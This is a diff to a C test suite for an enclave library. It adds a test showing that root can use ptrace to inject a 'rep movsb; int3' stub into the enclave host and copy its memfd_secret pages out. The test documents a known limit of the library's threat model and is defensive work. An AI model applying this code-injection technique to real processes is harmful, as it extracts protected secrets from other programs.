@@ -17,6 +17,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/user.h>
 #include <sys/random.h>
 #include <sys/socket.h>
 #include <sys/wait.h>
@@ -238,6 +239,138 @@ static void test_ptrace_root(void **state)
 	assert_int_equal(ptrace(PTRACE_DETACH, host, NULL, NULL), 0);
 	ady_enclave_close(e);
 }
+
+/*
+ * What the process backend does NOT protect against, tried: root stops the
+ * enclave host with ptrace and makes it copy its own memfd_secret pages
+ * into ordinary memory (a "rep movsb; int3" written over a code page), then
+ * reads that.  memfd_secret only stops direct reads (/proc/PID/mem,
+ * PTRACE_PEEKDATA); the process itself can read its pages, so whoever
+ * controls the process can.  This test passes when the attack succeeds:
+ * docs/threat-model.md says root is trusted on this backend, and if this
+ * ever fails the table must change with it.
+ */
+#if defined(__x86_64__)
+struct range {
+	unsigned long lo, hi;
+};
+
+/* The secretmem mappings, one executable and one ordinary writable mapping. */
+static int host_maps(pid_t pid, struct range *sec, int cap, struct range *code, struct range *scratch)
+{
+	char path[64], line[512];
+	FILE *maps;
+	int n = 0;
+
+	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
+	maps = fopen(path, "r");
+	if (!maps)
+		return -1;
+	code->lo = scratch->lo = 0;
+	while (fgets(line, sizeof(line), maps)) {
+		unsigned long lo, hi;
+		char perms[8];
+		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3)
+			continue;
+		if (strstr(line, "secretmem")) {
+			if (n < cap && perms[0] == 'r')
+				sec[n++] = (struct range){lo, hi};
+		} else if (!code->lo && !strcmp(perms, "r-xp")) {
+			*code = (struct range){lo, hi};
+		} else if (!scratch->lo && !strcmp(perms, "rw-p") && hi - lo >= 4096) {
+			*scratch = (struct range){lo, hi};
+		}
+	}
+	fclose(maps);
+	return n;
+}
+
+static void test_root_injects_code_and_reads(void **state)
+{
+	static const uint8_t stub[8] = {0xf3, 0xa4, 0xcc, 0x90, 0x90, 0x90, 0x90, 0x90}; /* rep movsb; int3 */
+	uint8_t seed[16], secret[4096], saved_scratch[4096], page[4096];
+	struct range sec[16], code = {0, 0}, scratch = {0, 0};
+	struct user_regs_struct saved, r;
+	ady_enclave *e;
+	long saved_code, stub_word;
+	int nsec, mem, status, found = 0, copied = 0;
+	char path[64];
+	size_t n;
+	pid_t host;
+
+	(void)state;
+	if (geteuid() != 0)
+		skip();
+	e = open_process();
+	assert_int_equal(getrandom(seed, sizeof(seed), 0), (ssize_t)sizeof(seed));
+	expected_secret(seed, secret);
+	assert_int_equal(ady_ecall(e, T_SECRET, seed, sizeof(seed), NULL, 0, &n), ADY_OK);
+	host = newest_host();
+	assert_true(host > 0);
+	nsec = host_maps(host, sec, 16, &code, &scratch);
+	if (nsec <= 0) {
+		ady_enclave_close(e);
+		print_message("no memfd_secret mapping (weak fallback): root reads it directly\n");
+		skip();
+	}
+	assert_true(code.lo && scratch.lo);
+
+	assert_int_equal(ptrace(PTRACE_ATTACH, host, NULL, NULL), 0);
+	assert_int_equal(waitpid(host, &status, __WALL), host);
+	assert_int_equal(ptrace(PTRACE_GETREGS, host, NULL, &saved), 0);
+	errno = 0;
+	saved_code = ptrace(PTRACE_PEEKTEXT, host, (void *)code.lo, NULL);
+	assert_int_equal(errno, 0);
+	memcpy(&stub_word, stub, sizeof(stub_word));
+	assert_int_equal(ptrace(PTRACE_POKETEXT, host, (void *)code.lo, (void *)stub_word), 0);
+	snprintf(path, sizeof(path), "/proc/%d/mem", (int)host);
+	mem = open(path, O_RDWR);
+	assert_true(mem >= 0);
+	assert_int_equal(pread(mem, saved_scratch, 4096, (off_t)scratch.lo), 4096);
+
+	for (int i = 0; i < nsec && !found; i++) {
+		for (unsigned long a = sec[i].lo; a < sec[i].hi && !found; a += 4096) {
+			r = saved;
+			r.rip = code.lo;
+			r.rsi = a;
+			r.rdi = scratch.lo;
+			r.rcx = 4096;
+			r.eflags &= ~0x400ull;         /* DF clear: copy forwards */
+			r.orig_rax = (unsigned long)-1; /* no syscall restart on resume */
+			assert_int_equal(ptrace(PTRACE_SETREGS, host, NULL, &r), 0);
+			assert_int_equal(ptrace(PTRACE_CONT, host, NULL, NULL), 0);
+			assert_int_equal(waitpid(host, &status, __WALL), host);
+			if (!WIFSTOPPED(status) || WSTOPSIG(status) != SIGTRAP)
+				fail_msg("injected copy of %#lx stopped with status %#x", a, status);
+			assert_int_equal(pread(mem, page, 4096, (off_t)scratch.lo), 4096);
+			copied++;
+			if (memmem(page, sizeof(page), secret, 32))
+				found = 1;
+		}
+	}
+
+	/* Put everything back and let the enclave go on. */
+	assert_int_equal(pwrite(mem, saved_scratch, 4096, (off_t)scratch.lo), 4096);
+	close(mem);
+	assert_int_equal(ptrace(PTRACE_POKETEXT, host, (void *)code.lo, (void *)saved_code), 0);
+	assert_int_equal(ptrace(PTRACE_SETREGS, host, NULL, &saved), 0);
+	assert_int_equal(ptrace(PTRACE_DETACH, host, NULL, NULL), 0);
+	print_message("root copied %d secretmem pages out through injected code: canary %s\n", copied,
+		      found ? "read" : "not found");
+	assert_true(found);
+	/* The host resumes its interrupted wait (restart_syscall) and serves on. */
+	ady_err err = ady_ecall(e, T_ECHO, "ok", 2, page, sizeof(page), &n);
+	if (err)
+		fail_msg("ECALL after the attack: %s", ady_strerror(err));
+	ady_enclave_close(e);
+}
+#else
+static void test_root_injects_code_and_reads(void **state)
+{
+	(void)state;
+	skip();
+}
+#endif
 
 static void test_syscall_kills_only_that_enclave(void **state)
 {
@@ -475,6 +608,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_secret_not_readable),
 		cmocka_unit_test(test_ptrace_root),
+		cmocka_unit_test(test_root_injects_code_and_reads),
 		cmocka_unit_test(test_syscall_kills_only_that_enclave),
 		cmocka_unit_test(test_wild_access_kills_only_that_enclave),
 		cmocka_unit_test(test_garbage_on_socket),
